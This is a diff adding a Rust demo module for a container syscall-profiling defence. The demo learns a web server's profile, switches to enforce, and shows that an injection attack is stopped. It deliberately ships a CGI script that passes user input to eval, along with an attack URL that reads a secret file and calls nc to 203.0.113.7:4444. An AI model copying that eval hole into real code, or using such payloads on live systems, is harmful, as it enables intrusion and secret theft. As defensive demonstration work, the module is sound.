@@ -1,0 +1,374 @@
+//! The demo (README's first command, through `scripts/demo.sh`): a small web server with a
+//! command-injection bug is learned under a private containerd until its profile converges and
+//! is promoted to enforce; benign traffic then passes in silence and the attack is stopped.
+//!
+//! Everything is real: containerd, runc, the chaperone shim, seccomp notification, the SQLite
+//! store. The image is built locally from Debian's static busybox (no registry is reachable).
+
+use std::io::{Read, Write};
+use std::net::TcpStream;
+use std::path::Path;
+use std::time::{Duration, Instant};
+
+use anyhow::{bail, Context, Result};
+use chaperone_profiler::store::{Store, Summary};
+use serde_json::Value;
+
+use crate::containerd::{wait_for, Containerd, CHAPERONE};
+
+/// The demo image.
+pub const IMAGE: &str = "chaperone.demo/web:1";
+/// The profile the demo's containers learn into.
+pub const PROFILE: &str = "demo-web";
+
+/// The CGI script with the bug: the visitor's name goes through `eval`.
+const GREET_CGI: &str = r#"#!/bin/sh
+# Greets the visitor. The bug, on purpose: the name is passed to eval, so ';' runs commands.
+echo "Content-Type: text/plain"
+echo ""
+name="${QUERY_STRING#name=}"
+eval "echo Hello, $name"
+"#;
+const INDEX: &str =
+    "<html><body><h1>chaperone demo shop</h1><a href=/about.html>about</a></body></html>\n";
+const ABOUT: &str = "<html><body>We sell syscalls.</body></html>\n";
+/// What the attacker is after.
+pub const SECRET: &str = "sk_live_chaperone_demo_0123456789";
+
+/// The chaperone config of the demo: learning converges by policy and moves to enforce; a
+/// deviation kills the container.
+const CONFIG: &str = r#"
+action = "kill"
+
+[model]
+# Per-thread false-alarm target: the threshold is the highest held-out window score.
+target_far = 0.0001
+
+[promotion]
+min_containers = 3
+min_events = 5000
+max_new_per_10k = 20.0
+window_events = 5000
+to = "enforce"
+"#;
+
+/// The benign workload: what users of the shop do.
+const BENIGN: &[&str] = &[
+    "/",
+    "/about.html",
+    "/cgi-bin/greet?name=alice",
+    "/cgi-bin/greet?name=bob",
+    "/",
+    "/missing.html",
+    "/cgi-bin/greet?name=carol",
+    "/about.html",
+    "/cgi-bin/greet?name=dave",
+    "/cgi-bin/greet?name=erin",
+];
+
+/// The attack: a shell command through the CGI that reads the secret and calls out.
+pub const ATTACK: &str =
+    "/cgi-bin/greet?name=x;cat${IFS}/secret/api-key;nc${IFS}203.0.113.7${IFS}4444;#";
+
+/// Demo settings.
+#[derive(Debug, Clone)]
+pub struct Options {
+    /// The port the web server listens on (host network, 127.0.0.1).
+    pub port: u16,
+    /// Learning runs at most before giving up on convergence.
+    pub max_learn_runs: usize,
+    /// Benign reruns under enforce (each a fresh container).
+    pub benign_runs: usize,
+    /// Attack runs under enforce (each a fresh container).
+    pub attack_runs: usize,
+}
+
+impl Default for Options {
+    fn default() -> Self {
+        Self {
+            port: 18_080,
+            max_learn_runs: 15,
+            benign_runs: 1,
+            attack_runs: 1,
+        }
+    }
+}
+
+/// What the demo measured.
+#[derive(Debug, Clone, Default)]
+pub struct Outcome {
+    /// Learning runs until the profile was promoted.
+    pub learn_runs: usize,
+    /// Events learned.
+    pub events: u64,
+    /// Benign reruns without any alert, and how many were run.
+    pub benign_silent: (usize, usize),
+    /// Attacks stopped (container killed, secret not returned), and how many were run.
+    pub attacks_stopped: (usize, usize),
+    /// The first attack's alert.
+    pub alert: Option<Value>,
+}
+
+impl Outcome {
+    /// The story held: every benign run silent, every attack stopped.
+    pub fn held(&self) -> bool {
+        self.benign_silent.0 == self.benign_silent.1
+            && self.attacks_stopped.0 == self.attacks_stopped.1
+    }
+}
+
+fn step(text: &str) {
+    println!("\n==> {text}");
+}
+
+/// One HTTP/1.0 GET; `Err` when the connection fails or is cut.
+pub fn get(port: u16, path: &str) -> Result<String> {
+    let mut s = TcpStream::connect(("127.0.0.1", port))?;
+    s.set_read_timeout(Some(Duration::from_secs(10)))?;
+    write!(s, "GET {path} HTTP/1.0\r\nHost: localhost\r\n\r\n")?;
+    let mut body = String::new();
+    s.read_to_string(&mut body)?;
+    Ok(body)
+}
+
+/// Runs the whole story on `ctrd` (whose shims are chaperone's).
+pub fn run(ctrd: &Containerd, opts: &Options) -> Result<Outcome> {
+    ctrd.set_chaperone_config(CONFIG)?;
+    step(&format!("building the web image {IMAGE} (busybox httpd + a CGI script with a command-injection bug)"));
+    ctrd.import_image(
+        IMAGE,
+        &[
+            ("www/index.html", INDEX, 0o644),
+            ("www/about.html", ABOUT, 0o644),
+            ("www/cgi-bin/greet", GREET_CGI, 0o755),
+            ("secret/api-key", SECRET, 0o600),
+        ],
+    )?;
+    let mut outcome = Outcome::default();
+
+    step("learning: each run starts the server under chaperone, sends benign traffic, stops it");
+    for run in 1..=opts.max_learn_runs {
+        let id = format!("web-learn-{run}");
+        let server = Server::start(ctrd, &id, opts.port)?;
+        for path in BENIGN {
+            get(opts.port, path).with_context(|| format!("benign request {path}"))?;
+        }
+        server.stop()?;
+        let s = summary(ctrd)?;
+        println!(
+            "    run {run:>2}: {:>6} events in the profile, {:>5} n-grams, {} new per 1,000 events, mode {}",
+            s.events,
+            s.grams,
+            s.new_per_1000
+                .map_or_else(|| "-".to_owned(), |r| format!("{r:.2}")),
+            s.mode.map_or("learn", |m| m.as_str()),
+        );
+        outcome.learn_runs = run;
+        outcome.events = s.events;
+        if s.mode == Some(chaperone_config::Mode::Enforce) {
+            break;
+        }
+    }
+    let s = summary(ctrd)?;
+    if s.mode != Some(chaperone_config::Mode::Enforce) {
+        let kept = std::env::temp_dir().join(format!("chaperone-demo-{}.db", std::process::id()));
+        if std::fs::copy(ctrd.db_path(), &kept).is_ok() {
+            println!(
+                "    the profile store is kept for inspection: {}",
+                kept.display()
+            );
+        }
+        bail!(
+            "the profile did not converge in {} runs: {s:?}",
+            opts.max_learn_runs
+        );
+    }
+    println!(
+        "    converged: the promotion policy switched profile {PROFILE} to enforce (action: kill)"
+    );
+
+    step(&format!(
+        "enforce: {} benign run(s), each a fresh container with the same traffic",
+        opts.benign_runs
+    ));
+    for run in 1..=opts.benign_runs {
+        let id = format!("web-benign-{run}");
+        let server = Server::start(ctrd, &id, opts.port)?;
+        let mut ok = true;
+        for path in BENIGN {
+            if get(opts.port, path).is_err() {
+                ok = false;
+            }
+        }
+        let alerts = alerts_of(ctrd, &id)?;
+        let running = ctrd.task_status(&id).as_deref() == Some("RUNNING");
+        server.stop()?;
+        let silent = ok && running && alerts.is_empty();
+        println!(
+            "    benign run {run:>2}: {} requests, {} alerts, server {}",
+            BENIGN.len(),
+            alerts.len(),
+            if running { "running" } else { "STOPPED" }
+        );
+        for a in &alerts {
+            println!("      alert: {}", a["output"].as_str().unwrap_or_default());
+        }
+        outcome.benign_silent.1 += 1;
+        outcome.benign_silent.0 += usize::from(silent);
+    }
+
+    step(&format!("attack: GET {ATTACK}"));
+    println!(
+        "    (the CGI evals it: a shell runs cat /secret/api-key, then nc to 203.0.113.7:4444)"
+    );
+    for run in 1..=opts.attack_runs {
+        let id = format!("web-attack-{run}");
+        let server = Server::start(ctrd, &id, opts.port)?;
+        let started = Instant::now();
+        let response = get(opts.port, ATTACK);
+        let leaked = response.as_ref().is_ok_and(|r| r.contains(SECRET));
+        let stopped = wait_for(
+            "the attacked container to stop",
+            Duration::from_secs(15),
+            || (ctrd.task_status(&id).as_deref() == Some("STOPPED")).then_some(()),
+        )
+        .is_ok();
+        let alerts = alerts_of(ctrd, &id)?;
+        println!(
+            "    attack run {run:>2}: container {} after {:.0?}, secret {}, {} alert(s)",
+            if stopped { "killed" } else { "STILL RUNNING" },
+            started.elapsed(),
+            if leaked { "LEAKED" } else { "not returned" },
+            alerts.len()
+        );
+        if outcome.alert.is_none() {
+            outcome.alert = alerts.first().cloned();
+        }
+        server.remove();
+        outcome.attacks_stopped.1 += 1;
+        outcome.attacks_stopped.0 += usize::from(stopped && !leaked && !alerts.is_empty());
+    }
+    if let Some(alert) = &outcome.alert {
+        step("the alert (Falco format, also in the alert log)");
+        print_alert(alert);
+    }
+    Ok(outcome)
+}
+
+fn print_alert(alert: &Value) {
+    let f = &alert["output_fields"];
+    println!("    {}", alert["output"].as_str().unwrap_or_default());
+    println!(
+        "    priority: {}   rule: {}",
+        alert["priority"], alert["rule"]
+    );
+    let window: Vec<&str> = f["chaperone.window"]
+        .as_array()
+        .map(|w| w.iter().filter_map(Value::as_str).collect())
+        .unwrap_or_default();
+    let tail = window.len().saturating_sub(12);
+    println!(
+        "    last syscalls of the thread: ... {}",
+        window[tail..].join(" ")
+    );
+    println!("    why (least likely transitions under the learned profile):");
+    for t in f["chaperone.explanation"].as_array().into_iter().flatten() {
+        println!(
+            "      {:>14} -> {:<14} p = {:.2e}{}",
+            t["from"].as_str().unwrap_or("(start)"),
+            t["to"].as_str().unwrap_or("?"),
+            t["probability"].as_f64().unwrap_or(f64::NAN),
+            if t["never_seen"].as_bool() == Some(true) {
+                "  (never seen while learning)"
+            } else {
+                ""
+            }
+        );
+    }
+}
+
+fn summary(ctrd: &Containerd) -> Result<Summary> {
+    Store::open(&ctrd.db_path())?
+        .summary(PROFILE)?
+        .context("the profile is not in the store")
+}
+
+fn alerts_of(ctrd: &Containerd, id: &str) -> Result<Vec<Value>> {
+    Ok(ctrd
+        .alerts()?
+        .into_iter()
+        .filter(|a| a["output_fields"]["container.id"] == id)
+        .collect())
+}
+
+/// A web server container; removed on drop.
+struct Server<'a> {
+    ctrd: &'a Containerd,
+    id: String,
+}
+
+impl<'a> Server<'a> {
+    fn start(ctrd: &'a Containerd, id: &str, port: u16) -> Result<Self> {
+        let listen = format!("127.0.0.1:{port}");
+        let annotation = format!("chaperone.io/profile={PROFILE}");
+        ctrd.ctr_ok(&[
+            "run",
+            "-d",
+            "--net-host",
+            "--runtime",
+            CHAPERONE,
+            "--annotation",
+            &annotation,
+            IMAGE,
+            id,
+            "httpd",
+            "-f",
+            "-p",
+            &listen,
+            "-h",
+            "/www",
+        ])?;
+        let server = Self {
+            ctrd,
+            id: id.to_owned(),
+        };
+        wait_for("the web server to listen", Duration::from_secs(15), || {
+            TcpStream::connect(("127.0.0.1", port)).ok()
+        })
+        .with_context(|| format!("containerd log:\n{}", tail(&ctrd.log())))?;
+        Ok(server)
+    }
+
+    /// Stops the server (SIGKILL: httpd is pid 1 and has no SIGTERM handler) and deletes it;
+    /// the shim stores what was learned before the delete returns.
+    fn stop(self) -> Result<()> {
+        self.ctrd
+            .ctr_ok(&["tasks", "kill", "-s", "SIGKILL", &self.id])?;
+        wait_for("the server to stop", Duration::from_secs(15), || {
+            (self.ctrd.task_status(&self.id).as_deref() == Some("STOPPED")).then_some(())
+        })?;
+        self.ctrd.ctr_ok(&["tasks", "delete", &self.id])?;
+        self.ctrd.ctr_ok(&["containers", "delete", &self.id])?;
+        Ok(())
+    }
+
+    fn remove(&self) {
+        self.ctrd.remove(&self.id);
+    }
+}
+
+impl Drop for Server<'_> {
+    fn drop(&mut self) {
+        self.remove();
+    }
+}
+
+fn tail(log: &str) -> String {
+    let lines: Vec<&str> = log.lines().collect();
+    lines[lines.len().saturating_sub(30)..].join("\n")
+}
+
+/// Whether `dir` holds the shim binary.
+pub fn has_shim(dir: &Path) -> bool {
+    dir.join(crate::containerd::SHIM_BINARY).is_file()
+}
